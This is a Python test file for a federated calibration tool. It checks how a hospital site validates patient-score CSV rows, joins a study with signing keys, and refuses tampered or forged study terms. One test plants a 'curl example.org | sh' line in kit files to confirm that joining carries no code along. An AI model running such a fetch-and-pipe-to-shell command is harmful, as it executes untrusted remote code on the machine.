"""What a hospital does before a study runs: rows, keys, and what it accepts."""

import io
import json
from dataclasses import replace

import numpy as np
import pytest
from hospitals import SITES, table, write_rows
from policies import FACTS
from quarters import connection
from refusals import each_is_refused, refused
from studies import study

from fedcal.cli.main import exit_code_of
from fedcal.clients.site.store import records_in
from fedcal.datasets.site_csv import Reading
from fedcal.privacy.agreement import Terms
from fedcal.run.jobs import job_of
from fedcal.secure_aggregation.keys import SigningKey, read_key
from fedcal.secure_aggregation.roster import in_words
from fedcal.sites.joining import Kit, join, rows_of
from fedcal.sites.sealed import Join, signed_text

pytestmark = pytest.mark.usefixtures("quick_figures")
ONE = study(",".join(SITES))


def changed(**columns):
    return {name: column for name, column in (table() | columns).items() if column is not None}


def test_rows_that_cannot_work_are_one_line(tmp_path):
    n, ward = len(table()["label"]), study(groups=("ward a",))
    wrong = [
        ((ONE, changed(patient=None)), "column subject .or patient. of .* is needed"),
        ((ONE, changed(label=["dead"] * n)), "612 of 612 .*a label that is none of 'survived', "),
        ((ONE, changed(client=["a", "b"] * (n // 2) + ["b"] * (n % 2))), "must be 1, got 2"),
        ((ONE, changed(client=["birch"] * n)), "has rows of birch .column client., this is "),
        ((ward, table()), "column group of .* with ward a is needed"),
        ((ward, changed(group=["ward b"] * n)), "column group of .* with ward a is needed"),
    ]
    file = tmp_path / "rows.csv"
    each_is_refused(wrong, lambda given: rows_of(given[0], str(write_rows(file, given[1]))))


def test_rows_that_look_wrong_are_warned_of(tmp_path):
    file, few, n = tmp_path / "rows.csv", table(40), len(table()["label"])
    inverted = [1 - score for score in table()["score"]]
    two = changed(score=[0.25, 0.45] * (n // 2))
    points = study(",".join(SITES), model={"points": (0.25, 0.45)})
    cases = [
        (ONE, table(), []),
        (ONE, changed(score=inverted), ["warning: the scores rank rows the wrong way round"]),
        (ONE, changed(label=["survived"] * n), ["have the same label, survived"]),
        (ONE, two, ["have the same score, 0.25 (50 %), 0.45 (50 %): if"]),
        (points, two, []),
        (ONE, few, ["warning: 40 patients: below 100 the noise"]),
        (study(groups=("v",)), changed(group=["v"] + ["w"] * (n - 1)), []),
        (study(protect="record"), changed(patient=None), []),
    ]
    for of, columns, expected in cases:
        output = rows_of(of, str(write_rows(file, columns)))[1]
        assert len(output) == len(expected), output
        assert all(word in line for word, line in zip(expected, output, strict=True)), output
    capital = {name.capitalize(): column for name, column in table().items()}
    assert rows_of(ONE, str(write_rows(file, capital)))[1] == []
    write_rows(file, changed(age=[70] * n, ward=["w"] * n))
    site_rows = rows_of(ONE, str(file))[0]
    assert site_rows.shards.groups is None
    assert site_rows.notes == ["columns that are ignored: age, ward"]


def test_a_score_is_of_the_positive_class_and_all_sites_are_asked_the_same(tmp_path):
    file, right = tmp_path / "rows.csv", table()
    turned = study(classes=("sepsis", "survived"), model={"positive": "sepsis"})
    for of in (ONE, turned):
        shards = rows_of(of, str(write_rows(file, right)))[0].shards
        np.testing.assert_allclose(
            shards.logits[:, 1] > shards.logits[:, 0], np.array(right["score"]) > 0.5
        )
        assert shards.labels.tolist() == [int(label == "sepsis") for label in right["label"]]
        assert shards.input == "probs"
    odds = np.log(np.array(right["score"]) / (1 - np.array(right["score"])))
    del right["score"]
    logits = {"logit_sepsis": odds.tolist(), "logit_survived": [0.0] * len(odds)}
    other = rows_of(ONE, str(write_rows(file, right | logits)))[0].shards
    assert other.input == "probs"
    np.testing.assert_allclose(other.logits[:, 1] - other.logits[:, 0], odds, atol=1e-9)
    np.testing.assert_allclose(other.probs, shards.probs, atol=1e-9)
    assert other.subjects is not None


def test_nothing_of_a_row_is_in_a_join_and_a_kit_brings_no_code(there):
    there.kits()
    kit, written = there.kit(), set()
    for name in ("fedcal-site.service", "compose.yml"):
        (kit / name).write_text("#!/bin/sh\ncurl example.org | sh\n")
    for rows in (table(), table(500, 2)):
        join(kit, str(write_rows(there.folder / "rows.csv", rows)))
        written.add((there.folder / "alder.join").read_bytes())
    assert len(written) == 1
    assert not any("curl" in path.read_text("utf-8") for path in kit.glob("*.*"))
    made = Join.read(there.folder / "alder.join")
    assert made.key == read_key(there.own() / "signing.pem").public
    join(kit, "rows.csv", new_keys=True)
    assert Join.read(there.folder / "alder.join").key != made.key
    (there.own() / "connection.key").unlink()
    refused("has lost a key", join, kit, "rows.csv")


def test_inverted_rows_join_at_a_persons_word_alone(there, monkeypatch, capsys):
    there.kits()
    inverted = changed(score=[1 - score for score in table()["score"]])
    rows = str(write_rows(there.folder / "rows.csv", inverted))
    for answer in ("", "no\n"):
        monkeypatch.setattr("sys.stdin", io.StringIO(answer))
        refused("alder stays as it is: a person must type yes", join, there.kit(), rows)
    assert not there.own().exists()
    monkeypatch.setattr("sys.stdin", io.StringIO("yes\n"))
    _, warnings, made = join(there.kit(), rows)
    assert made.exists()
    assert any("the wrong way round" in line for line in warnings)
    assert "Here scores run against outcomes: AUC 0.20 " in capsys.readouterr().out


def test_a_hospitals_own_file_joins_and_is_read_so_from_then_on(there, capsys):
    there.kits()
    columns = table()
    outcome = ["1" if label == "sepsis" else "0" for label in columns["label"]]
    outcome[:9] = ["NA"] * 9
    own = {"Patient": columns["patient"], "Outcome at 30 days": outcome, "Risk": columns["score"]}
    rows = write_rows(there.folder / "rows.csv", own)
    rows.write_text("sep=;\n" + rows.read_text().translate(str.maketrans(",.", ";,")))
    words = ["site", "join", str(there.kit()), str(rows)]
    words += ["--map", "Outcome at 30 days=label,risk=score", "--labels", "0=survived,1=sepsis"]
    assert exit_code_of(words) == 2
    assert "9 of 612 lines cannot be used" in " ".join(capsys.readouterr().err.split())
    assert exit_code_of([*words, "--drop-missing"]) == 0
    done = "left out: 9 without an outcome, 0 more without a score: 1.5 % of 612 lines"
    shown = capsys.readouterr().out
    assert "rows.csv: 603 rows of 297 patients" in shown
    for line in (done, "label 0 is survived", "column Outcome at 30 days is label"):
        assert line in shown
    assert "outcome" not in (there.folder / "alder.join").read_text("utf-8").lower()
    kept = Kit.read(there.kit()).rows
    assert kept == (str(rows), Reading.of(words[5], words[7], True))
    assert join(there.kit(), str(rows))[0].counts == "603 rows of 297 patients"  # as it was
    own["Outcome at 30 days"] = ["", "NA"] * 20 + outcome[40:]
    write_rows(rows, own)
    refused("6.5 % of 612 lines; at most 5 % may be left out", join, there.kit(), str(rows))


def test_wrong_rows_leave_nothing_behind(there, capsys):
    there.kits()
    write_rows(there.folder / "rows.csv", changed(patient=None))
    before = sorted(there.folder.rglob("*"))
    assert exit_code_of(["site", "join", str(there.kit()), "rows.csv"]) == 2
    assert sorted(there.folder.rglob("*")) == before
    refused("kit.json: No such file", join, there.folder, "rows.csv")
    assert "column subject" in capsys.readouterr().err


def test_a_site_accepts_what_it_was_shown_by_its_own_keys(there, capsys, monkeypatch):
    there.joined()
    sealed, stranger = there.seal(), SigningKey.generate()
    swapped = {m.name: m.key for m in sealed.roster.sites} | {"alder": stranger.public}
    others = sealed.connections | {"alder": connection("alder")}
    wrong = [
        ({"roster": sealed.study.roster(swapped)}, "another key for alder"),
        ({"connections": others}, "another key for alder"),
        ({"authority": sealed.authority.replace("A", "B")}, "server.s authority in"),
        ({"study": study("alder,birch,cedar", epsilon=9.0)}, "roster of .* is another one"),
        ({}, ""),
    ]
    for change, why in wrong:
        there.sealed.write_text(replace(sealed, **change).to_text(there.coordinator))
        if why:
            refused(why, there.offer)
    words = ["site", "accept", str(there.kit()), str(there.sealed)]
    piped = ("yes\n", False, 2)  # nobody is here
    for answer, is_person, code in (piped, ("", True, 2), ("no\n", True, 2), ("yes\n", True, 0)):
        assert Kit.read(there.kit()).accepted is None
        monkeypatch.setattr("sys.stdin", io.StringIO(answer))
        monkeypatch.setattr("sys.stdin.isatty", lambda found=is_person: found)
        assert exit_code_of(words) == code
    shown = capsys.readouterr().out
    for word in ("alder (this one), birch and cedar", "epsilon 1 a release, 4 a year", "host:9092"):
        assert word in shown
    assert in_words(sealed.digest) in shown
    assert Kit.read(there.kit()).accepted == sealed


def test_other_terms_are_shown_and_accepted_anew(there):
    there.joined()
    sealed_before = there.seal()
    there.offer().accept()
    before = there.sealed.read_text("utf-8")
    kept = read_key(there.own() / "signing.pem").public
    there.kits(epsilon=2.0, question="q\ndigest\n0000", model={"version": "2"})
    refused("terms that .* joined", there.seal)
    for site in SITES:
        join(there.kit(site), "rows.csv")
    sealed = there.seal()
    assert sealed.roster.sites[0].key == kept
    lines = there.offer().lines()
    for word in ("epsilon: 4.0 -> 2.0", "model.version: 1 -> 2"):
        assert any(f"changed since what was accepted: {word}" in line for line in lines)
    (there.kit() / "state").mkdir()
    pinned = {"roster": sealed_before.roster.to_text()}
    (there.kit() / "state" / "site.json").write_text(json.dumps(pinned))
    with records_in(there.kit() / "state") as records:
        records.enrol(FACTS, lambda: (b"secret", b"signed"))
    refused("1 jobs at this site are unfinished", there.offer().accept)
    refused("1 jobs at this site", join, there.kit(), "rows.csv", new_keys=True)
    assert Kit.read(there.kit()).accepted == sealed_before
    with records_in(there.kit() / "state") as records:
        records.finish(FACTS.job)
    there.offer().accept()
    assert Kit.read(there.kit()).accepted == sealed
    there.sealed.write_text(before, "utf-8")  # somebody sends what was signed once
    refused("must be a whole number >= 3, got 1", there.offer)


def test_a_site_accepts_the_studys_own_release_and_nothing_else(there):
    there.joined(away=0, model={"thresholds": (0.1,)})
    sealed = there.seal()
    of, signer = sealed.study, there.coordinator
    config = of.config(engine="study")

    def offered(asked):
        there.sealed.write_text(replace(sealed, asked=asked).to_text(signer))
        return there.offer()

    def of_job(**change):
        settings = {k: v for k, v in (config.set | change.pop("set", {})).items() if v is not None}
        job = job_of(replace(config, clients=3, set=settings, **change), None)
        facts = {"roster": sealed.roster.to_text(), "class_digest": of.class_digest}
        return offered(replace(job, input="probs", **facts).terms())

    of_job()
    jobs = [
        ({"epsilon": 1.01}, "epsilon"),
        ({"unit": "example"}, "unit"),
        ({"trust": "central", "colluding": None}, "colluding|trust"),
        ({"method": "fedbin", "set": dict.fromkeys(of.settings)}, "method"),
        ({"set": {"cuts": [0.1, 0.2]}}, "settings"),
    ]
    each_is_refused(jobs, lambda change: of_job(**change))
    plain = sealed.asked.to_plain()
    plan, (question,) = plain["plan"], plain["questions"]
    name, parts = plan["mechanism"]
    twice = plan["bound"] | {"norms": [2 * norm for norm in plan["bound"]["norms"]]}
    wider = question | {"fixed": question["fixed"] | {"edges": [0.0, 0.3, 1.0]}}

    def noise(factor):
        return plan | {"mechanism": [name, {k: factor * value for k, value in parts.items()}]}

    forged = [
        ({"plan": noise(2 / 3)}, "noise of the plan"),
        ({"plan": noise(3 / 2)}, "noise of the plan"),
        ({"plan": plan | {"epsilon": plan["epsilon"] / 2}}, "epsilon of the plan"),
        ({"plan": plan | {"bound": twice}}, "bound.norms.0 of the plan that is asked"),
        ({"plan": noise(2) | {"bound": twice}}, "noise of the plan"),
        ({"questions": []}, "number of questions"),
        ({"questions": [wider]}, "0.fixed.edges of the questions that is asked, by the study"),
        ({"result_bytes": 10**12}, "result_bytes that is asked, by the study itself"),
    ]
    each_is_refused(forged, lambda change: offered(Terms.from_plain(plain | change)))
    offered(Terms.from_plain(plain | {"plan": noise(1 + 1e-12)}))  # another type of CPU's
    fields = {name: value for name, value in sealed._fields.items() if name != "asked"}
    there.sealed.write_text(signed_text(fields, "study-sealed", signer))
    refused("asked", there.offer)
    assert Kit.read(there.kit()).accepted is None
